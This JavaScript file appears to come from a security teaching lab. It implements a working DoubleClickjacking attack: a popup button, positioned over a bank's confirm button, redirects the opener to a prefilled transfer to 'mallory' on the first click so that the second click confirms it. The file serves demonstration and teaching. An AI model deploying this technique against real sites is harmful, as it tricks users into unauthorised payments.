// DoubleClickjacking, the popup: its button sits exactly where the bank's "Confirm transfer"
// button will be in the window underneath. On the first press of the double-click, the popup
// navigates that window (its opener) to the prefilled confirmation page and closes itself; the
// second click of the double-click lands on the bank's button.
(function () {
  "use strict";
  var bank = window.LAB && window.LAB.bankOrigin;
  var button = document.getElementById("captcha");
  // The bank's page: a 960px column, centred; the button's centre is 163px into it, 279px down.
  var place = function () {
    var column = Math.max(0, (document.documentElement.clientWidth - 960) / 2);
    button.style.left = (column + 163 - button.offsetWidth / 2) + "px";
    button.style.top = (279 - button.offsetHeight / 2) + "px";
  };
  place();
  window.addEventListener("resize", place);
  // Reveal: mark the spot, and stay open long enough to watch the window behind change.
  var reveal = new URLSearchParams(window.location.search).get("reveal") === "1";
  if (reveal) {
    document.body.classList.add("revealed");
    document.getElementById("reveal-note").hidden = false;
  }
  var sprung = false;
  button.addEventListener("mousedown", function () {
    if (sprung || !bank || !window.opener) {
      return;
    }
    sprung = true;
    window.opener.location = bank +
      "/transfer/confirm?to=mallory&amount=30.00&memo=Captcha%20verification&scenario=doubleclick";
    if (reveal) {
      document.getElementById("reveal-note").textContent =
        "The window behind this one is now on the bank's confirmation page, its button right under this one. " +
        "Your second click would have landed on it. This window closes in 4 seconds.";
    }
    window.setTimeout(function () { window.close(); }, reveal ? 4000 : 30);
  });
})();
